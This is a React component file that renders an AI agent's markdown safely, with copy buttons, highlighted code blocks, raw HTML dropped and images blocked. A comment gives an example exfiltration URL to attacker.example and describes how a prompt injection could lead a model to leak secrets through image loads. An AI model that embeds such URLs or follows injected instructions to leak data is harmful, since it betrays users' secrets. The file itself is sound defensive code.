"use client";

import { Check, Copy } from "lucide-react";
import { type ComponentProps, isValidElement, type ReactNode, useState } from "react";
import ReactMarkdown, { type Components } from "react-markdown";
import rehypeHighlight from "rehype-highlight";
import remarkGfm from "remark-gfm";
import { Collapsible } from "./collapsible";

/** Plain text of a rendered node tree (what the copy button copies). */
function textOf(node: ReactNode): string {
  if (typeof node === "string" || typeof node === "number") return String(node);
  if (Array.isArray(node)) return node.map(textOf).join("");
  if (isValidElement<{ children?: ReactNode }>(node)) return textOf(node.props.children);
  return "";
}

export function CopyButton({ text, label = "Copy" }: { text: string; label?: string }) {
  const [copied, setCopied] = useState(false);
  return (
    <button
      type="button"
      className="button ghost small icon-text copy-button"
      onClick={async () => {
        try {
          await navigator.clipboard.writeText(text);
          setCopied(true);
          window.setTimeout(() => setCopied(false), 1_500);
        } catch {
          setCopied(false);
        }
      }}
      aria-label={copied ? "Copied" : label}
    >
      {copied ? <Check size={13} aria-hidden /> : <Copy size={13} aria-hidden />}
      <span aria-hidden>{copied ? "Copied" : "Copy"}</span>
    </button>
  );
}

function CodeBlock({ children, ...rest }: ComponentProps<"pre">) {
  const text = textOf(children).replace(/\n+$/, "");
  const child = Array.isArray(children) ? children[0] : children;
  const language = isValidElement<{ className?: string }>(child)
    ? /language-(\S+)/.exec(child.props.className ?? "")?.[1]
    : undefined;
  return (
    <div className="md-code" data-testid="code-block">
      <div className="md-code-head">
        <span className="md-code-lang">{language ?? "text"}</span>
        <CopyButton text={text} label="Copy code" />
      </div>
      <Collapsible lines={text.split("\n").length}>
        <pre {...rest}>{children}</pre>
      </Collapsible>
    </div>
  );
}

/**
 * An image in agent markdown is never loaded: a model (or a prompt injection in a file it read) could
 * otherwise have the browser fetch `https://attacker.example/?q=<secret>` with no click (an
 * exfiltration channel). It shows as its alt text and address instead; the CSP's `img-src` backs it up.
 */
function BlockedImage({ src, alt }: ComponentProps<"img">) {
  const address = typeof src === "string" ? src : "";
  return (
    <span className="md-image-blocked" data-testid="blocked-image" title={address || undefined}>
      [image{alt ? `: ${alt}` : ""}
      {address ? ` (${address})` : ""}]
    </span>
  );
}

const components: Components = {
  pre: CodeBlock,
  a: ({ node: _node, ...props }) => <a {...props} target="_blank" rel="noopener noreferrer" />,
  img: ({ node: _node, ...props }) => <BlockedImage {...props} />,
};

/**
 * The agent's text as GitHub-flavoured markdown. Raw HTML in the text is dropped (`skipHtml`), so a
 * model can never inject markup (no frames, no scripts); images are not loaded (`BlockedImage`); code blocks are highlighted offline (highlight.js's common
 * languages, bundled) and carry a copy button.
 */
export function Markdown({ text }: { text: string }) {
  return (
    <div className="markdown">
      <ReactMarkdown
        remarkPlugins={[remarkGfm]}
        rehypePlugins={[[rehypeHighlight, { detect: false, ignoreMissing: true }]]}
        skipHtml
        components={components}
      >
        {text}
      </ReactMarkdown>
    </div>
  );
}
